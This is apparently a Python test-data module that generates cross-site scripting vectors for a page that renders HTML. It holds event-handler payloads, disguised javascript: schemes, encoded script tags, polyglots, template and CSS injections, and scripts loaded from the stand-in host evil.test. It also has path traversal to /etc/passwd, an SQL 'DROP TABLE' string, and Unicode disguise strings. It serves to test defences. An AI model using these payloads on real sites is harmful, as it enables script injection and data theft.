"""Texts that a page which writes HTML, addresses, styles or templates would run. Made, not collected.

The classes are those of the public lists of cross-site scripting vectors: elements with handlers in all quotings,
disguised schemes in all attributes that take an address, encodings of the angle bracket, ways out of every context of
HTML, styles, templates, names that scripts look up, and polyglots that leave several contexts at once. Each calls
`hacked()`, fetches from `evil.test`, or is a name that means something to a script.
"""

from __future__ import annotations

import base64
from itertools import cycle
from typing import Final

CALL: Final = "hacked()"
SCRIPT: Final = f"<script>{CALL}</script>"

# What needs no click, and what would run if it were clicked by mistake.
HANDLED: Final = (
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("a href=#", "onmouseover"),
    ("button", "onclick"),
    ("div style=animation-name:pulse;animation-duration:1s", "onanimationstart"),
    ("p tabindex=1 autofocus", "onfocusin"),
    ("x contenteditable", "onpointerenter"),
    ("math href=#", "onwheel"),
    ("dialog open", "oncancel"),
    ("x hidden=until-found", "onbeforematch"),
    ("x popover", "onbeforetoggle"),
)
QUOTED: Final = ("{}", '"{}"', "'{}'", "`{}`")
BETWEEN: Final = (" ", "/", "\t", "\n", "\f", "/ /")

# The scheme, as browsers have accepted it.
SCHEMES: Final = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6a;avascript:",
    "&#0000106avascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "javascript://%0a",
    "vbscript:",
    "livescript:",
    "view-source:javascript:",
    "feed:javascript:",
    "data:text/html,<script>",
    "data:text/html;base64,",
)
ADDRESSED: Final = (
    '<a href="{}">x</a>',
    '<iframe src="{}">',
    '<form action="{}"><input type=submit autofocus>',
    '<button form=x formaction="{}">x',
    '<object data="{}">',
    '<embed src="{}">',
    '<base href="{}//">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">',
    '<img src="{}">',
    '<body background="{}">',
    '<table background="{}">',
    '<video poster="{}">',
    '<svg><a xlink:href="{}">',
    '<svg><use href="{}#x">',
    '<math><mtext xlink:href="{}">',
    '<bgsound src="{}">',
    '<frameset><frame src="{}">',
    '<input type=image src="{}">',
    '<isindex action="{}">',
    '<area shape=default href="{}">',
    '<blockquote cite="{}">',
)

ENCODED: Final = (
    "".join(f"&#{ord(letter)};" for letter in f"<{CALL}>"),
    "".join(f"&#x{ord(letter):x};" for letter in f"<{CALL}>"),
    "".join(f"&#{ord(letter):07}" for letter in f"<{CALL}>"),
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"%253Cscript%253E{CALL}",
    f"\\u003cscript\\u003e{CALL}",
    f"\\x3cscript\\x3e{CALL}",
    f"\\74script\\76{CALL}",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"\u2039script\u203a{CALL}",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\x00>{CALL}</script>",
    f"<script/x>{CALL}</script/x>",
    f"<script\n>{CALL}</script\n>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    "<script src=//evil.test/x.js></script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<script type=module>{CALL}</script>",
    f"<script type=text/vbscript>{CALL}</script>",
    f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->",
    f"<!--><img src=x onerror={CALL}>",
    f"<![CDATA[<]]>script<![CDATA[>]]>{CALL}",
    f"<?xml-stylesheet href='javascript:{CALL}'?>",
    f"<? echo('{SCRIPT}') ?>",
    f"<iframe srcdoc='&lt;script&gt;parent.{CALL}&lt;/script&gt;'>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} /></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{CALL} /><a id=x>",
    "data:text/html;base64," + base64.b64encode(SCRIPT.encode()).decode(),
)

# Ways out of: an attribute, a comment, CDATA, a text of a script, elements whose content is text, templates.
OUT: Final = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "`>",
    "-->",
    "--!>",
    "]]>",
    "*/",
    '\\"',
    "\\'",
    "');",
    '");',
    "`);",
    "};",
    "\u2028",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</xmp>",
    "</iframe>",
    "</select>",
    "</math>",
    "</svg>",
    "</plaintext>",
    "</noembed>",
    "<!--",
    "<![CDATA[",
    "{{",
    "${",
)
RUN: Final = (
    SCRIPT,
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"{CALL}//",
    f"-{CALL}-",
    f";{CALL};//",
    f" onfocus={CALL} autofocus x=",
    f" onmouseover={CALL} style=position:fixed;inset:0 ",
    f"`-{CALL}-`",
    f"<iframe src=javascript:{CALL}>",
)

TEMPLATES: Final = (
    "{{%s}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{%% %s %%}",
    "[[%s]]",
    "@(%s)",
    "{{{%s}}}",
    "<x v-html=%s>",
    "<x ng-app ng-init=%s>",
    "{{constructor.constructor('%s')()}}",
    "{{$on.constructor('%s')()}}",
    "{user.%s}",
    "{user|%s|x}",
    "{{user}} {%s",
    "<x x-init=%s>",
    "<x hx-on:load=%s>",
    "*{%s}",
    "~{%s}",
    "#set($x=%s)",
)
STYLES: Final = (
    f"x;width:expression({CALL})",
    f"x;background:url(javascript:{CALL})",
    "x;background:url(//evil.test/x)",
    "}@import '//evil.test/x.css';{",
    "}*{background:url(//evil.test/y)}",
    "x;behavior:url(//evil.test/x.htc)",
    "x;-moz-binding:url(//evil.test/x.xml#x)",
    "</style><style>*{display:none}</style>",
    "<style>@import'//evil.test/x'</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<div style=position:fixed;inset:0;background:red>",
    "red;}body{display:none}",
    "url('//evil.test/x')",
    "var(--fw-panel);}*{opacity:0}",
    "\\3c script\\3e",
    "x/**/:expr/**/ession(1)",
    "#fff;x:url(//evil.test)",
    "attr(data-x url)",
    "image-set('//evil.test/x' 1x)",
    "<style>.x{animation:x 1s}</style>",
)
NAMES: Final = (
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "__defineGetter__",
    "then",
    "<form id=framewire><input name=status>",
    "<a id=framewire><a id=framewire name=status>",
    "<img name=getElementById>",
    "<form name=body>",
    "<iframe name=hacked>",
    "<meta charset=utf-7>",
    "<base target=_top>",
    "<portal src=//evil.test>",
    "//evil.test/x.png",
    "https://evil.test/x.png",
    "/media/emote/../../api/status",
    "../../../etc/passwd",
    "data:image/svg+xml,<svg onload=hacked()>",
    "blob:https://evil.test/x",
    "file:///etc/passwd",
    "ws://evil.test/",
    "<!--#exec cmd='hacked()'-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
    '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
    '<svg></p><style><a title="</style><img src=x onerror=hacked()>">',
    "<template><img src=x onerror=hacked()></template>",
    "<x is=x-img slot=x part=x>",
    "%s%n%x{0}",
    "'; DROP TABLE log; --",
)


def single() -> list[str]:
    """Return the vectors of one context."""
    quotes, gaps = cycle(QUOTED), cycle(BETWEEN)
    handled = [
        f"<{element}{next(gaps)}{handler}={next(quotes).format(CALL)}>"
        for element, handler in HANDLED
        for _ in range(3)
    ]
    places = cycle(ADDRESSED)
    addressed = [next(places).format(scheme + CALL) for scheme in SCHEMES for _ in range(3)]
    templates = [template % CALL for template in TEMPLATES]
    return [*handled, *addressed, *ENCODED, *templates, *STYLES, *NAMES]


def polyglots() -> list[str]:
    """Return vectors that leave one context, then another, and run in what they are then in."""
    return [
        f"jaVasCript:/*{first}{OUT[(at * 7 + shift * 5 + 3) % len(OUT)]}{RUN[(at + shift) % len(RUN)]}{tail}"
        for at, first in enumerate(OUT)
        for shift, tail in enumerate(("", "//", "<!--", "\\x3e", "*/", "</p>"))
    ]


def vectors() -> list[str]:
    return list(dict.fromkeys([*single(), *polyglots()]))


# Texts that turn, hide, pile up or fill.
DISGUISES: Final = (
    "\u202eevil\u202c abc",
    "\u202d\u202e\u2066\u2067\u2068x\u2069",
    "\u200f\u061c\u200eabc",
    "\u0645\u0631\u062d\u0628\u0627 abc \u05e9\u05dc\u05d5\u05dd 123",
    "a\u0000b\u0007c\u001b[31md\u009be",
    "zero\u200b\u200c\u200d\u2060\ufeffwidth",
    "\u200b\u200c\u200d",
    "\u2800\u3164\u115f\u1160",
    "so\u00adft hy\u00adphen",
    "\U000e0041\U000e0042\U000e007f tags",
    "line\u2028next\u2029paragraph\u0085next\nlast",
    "\ufdfd\ufdfa\ufdfd",
    "z" + "\u0301\u0489\u0336" * 60,
    "".join(letter + "\u0315\u0321\u0489" * 20 for letter in "storms"),
    "\u0e47" * 200,
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e" * 8,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 12,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f1e6" * 61,
    "\ufe0f" * 99,
    "\U0001242b\U0001242b\ua9c5\ua9c5",
    "\ue000\uf8ff\U0010fffd",
    "\ufffe\uffff\ufdd0",
    "\u3000\u2003\u00a0 wide spaces \u205f",
)
KIB: Final = 1_024
LONG: Final = tuple(
    (part * (100 * KIB // len(part) + 1))[: 100 * KIB]
    for part in ("W", SCRIPT, "\u0301", "\u202e", "\u0645\u0631", "\U0001f468\u200d")
)
